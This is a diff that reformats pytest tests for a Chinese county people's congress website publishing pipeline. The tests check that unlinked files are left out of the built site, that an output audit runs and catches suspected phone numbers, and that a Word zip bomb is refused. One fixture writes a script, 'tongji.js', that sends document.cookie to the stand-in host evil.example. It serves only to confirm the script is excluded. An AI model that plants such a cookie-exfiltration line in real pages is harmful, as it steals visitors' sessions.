@@ -6,15 +6,18 @@ from __future__ import annotations
 import hashlib
 
 import pytest
-from renda_site.publish.audit import Context, NewLines, check_html
+
 from support.project import copy_project, mkdocs_build
+
+from renda_site.publish.audit import Context, NewLines, check_html
 
 MOBILE = "13812345678"
 ARTICLE = '---\ntitle: {title}\ndate: "{date}"\nsource: 县人大常委会办公室\n{extra}---\n\n{body}\n'
 
 
 def _tree(site):
-    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(site.rglob("*")) if p.is_file()}
+    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(site.rglob("*")) if p.is_file()}
 
 
 @pytest.fixture(scope="module")
@@ -28,15 +31,19 @@ def built(tmp_path_factory):
         writer.add_blank_page(200, 200)
         with open(docs / "assets" / "files" / name, "wb") as handle:
             writer.write(handle)
-    (docs / "assets" / "js" / "tongji.js").write_text("fetch('https://evil.example/?'+document.cookie)\n", encoding="utf-8")
+    (docs / "assets" / "js" / "tongji.js").write_text("fetch('https://evil.example/?'+document.cookie)\n",
+                                                      encoding="utf-8")
     (project / "overrides" / "beifen.txt").write_text("旧的页脚备份\n", encoding="utf-8")
     column = docs / "dongtai"
     (column / "2026-11-20-gongkai.md").write_text(ARTICLE.format(
-        title="关于公开征求意见的公告", date="2026-11-20", extra="", body="[征求意见稿](../assets/files/gongkai.pdf)"), encoding="utf-8")
+        title="关于公开征求意见的公告", date="2026-11-20", extra="",
+        body="[征求意见稿](../assets/files/gongkai.pdf)"), encoding="utf-8")
     (column / "2026-11-21-caogao.md").write_text(ARTICLE.format(
-        title="尚未定稿的通知", date="2026-11-21", extra="draft: true\n", body="[附件](../assets/files/caogao-fujian.pdf)"), encoding="utf-8")
+        title="尚未定稿的通知", date="2026-11-21", extra="draft: true\n",
+        body="[附件](../assets/files/caogao-fujian.pdf)"), encoding="utf-8")
     (column / "2099-01-01-dingshi.md").write_text(ARTICLE.format(
-        title="将来的通知", date="2099-01-01", extra="", body="[附件](../assets/files/dingshi-fujian.pdf)"), encoding="utf-8")
+        title="将来的通知", date="2099-01-01", extra="", body="[附件](../assets/files/dingshi-fujian.pdf)"),
+        encoding="utf-8")
     site = project / "site"
     result = mkdocs_build(project, site)
     assert result.returncode == 0, result.stderr[-3000:]
@@ -48,10 +55,11 @@ def test_only_files_that_published_pages_use_are_published(built):
     assert (site / "assets/files/gongkai.pdf").is_file()                 # linked by a published article
     assert (site / "assets/js/t2s.txt").is_file()                        # listed in publish_also
     assert (site / "assets/img/emblem.svg").is_file()                    # the masthead (site settings)
-    for left_out in ("assets/files/yusuan-caoan.pdf", "assets/files/caogao-fujian.pdf", "assets/files/dingshi-fujian.pdf",
-                     "assets/js/tongji.js", "beifen.txt"):
+    for left_out in ("assets/files/yusuan-caoan.pdf", "assets/files/caogao-fujian.pdf",
+                     "assets/files/dingshi-fujian.pdf", "assets/js/tongji.js", "beifen.txt"):
         assert not (site / left_out).exists(), left_out
-    for named in ("docs/assets/files/yusuan-caoan.pdf", "docs/assets/files/caogao-fujian.pdf", "docs/assets/js/tongji.js", "overrides/beifen.txt"):
+    for named in ("docs/assets/files/yusuan-caoan.pdf", "docs/assets/files/caogao-fujian.pdf",
+                  "docs/assets/js/tongji.js", "overrides/beifen.txt"):
         assert named in log, named
     assert not list(site.rglob("lunr*")), "the theme's files no page loads are left out too"
 
@@ -93,8 +101,8 @@ def test_the_output_audit_fails_the_build_on_what_the_check_cannot_see(built):
     """A template is the developers' file: check does not render it, the output audit reads what it made."""
     project, site, _ = built
     snippets = "".join(snippet for snippet, _ in TEMPLATE_SNIPPETS)
-    log = _failing_build(project, site, lambda text: text.replace("<footer", snippets + "<footer", 1) if "<footer" in text
-                         else snippets + text)
+    log = _failing_build(project, site, lambda text: text.replace("<footer", snippets + "<footer", 1)
+                         if "<footer" in text else snippets + text)
     assert "发布前检查未通过：" in log and "来自 " in log
     missed = [snippet for snippet, finding in TEMPLATE_SNIPPETS if finding not in log]
     assert not missed, log[-2000:]
@@ -144,18 +152,20 @@ def test_lines_seen_on_an_earlier_page_are_read_once_but_a_new_neighbour_is_read
     chrome = "<header>县人大</header>\n" * 3
     assert check_html("a/index.html", chrome + "<p>正文</p>", CONTEXT, lines).problems == []
     assert lines(chrome + "<p>正文</p>") == ""
-    problems = check_html("b/index.html", chrome + "<p>值班 138</p>\n<header>县人大</header>\n<p>12345678</p>", CONTEXT, lines).problems
-    assert problems == [], "separate paragraphs are not one number"
-    problems = check_html("c/index.html", chrome + "<p>值班 138\n<header>县人大</header>\n12345678</p>".replace("<header>县人大</header>", "<b></b>"),
+    problems = check_html("b/index.html", chrome + "<p>值班 138</p>\n<header>县人大</header>\n<p>12345678</p>",
                           CONTEXT, lines).problems
+    assert problems == [], "separate paragraphs are not one number"
+    split_by_a_tag = "<p>值班 138\n<header>县人大</header>\n12345678</p>".replace("<header>县人大</header>", "<b></b>")
+    problems = check_html("c/index.html", chrome + split_by_a_tag, CONTEXT, lines).problems
     assert any("疑似手机号码" in p for p in problems)
 
 
 def test_the_importer_refuses_a_word_zip_bomb_before_unpacking_it(tmp_path):
-    from renda_site.editors.importer.blocks import ImportFailed
-    from renda_site.editors.importer.readers import read_docx
     from support.bad_inputs import ATTACKS  # noqa: F401  (the corpus imports its issue-24 part itself)
     from support.publish_attacks import _bomb, _docx_edit
+
+    from renda_site.editors.importer.blocks import ImportFailed
+    from renda_site.editors.importer.readers import read_docx
     bomb = tmp_path / "zhadan.docx"
     _docx_edit("bomb", _bomb)(bomb)
     with pytest.raises(ImportFailed, match="压缩炸弹"):
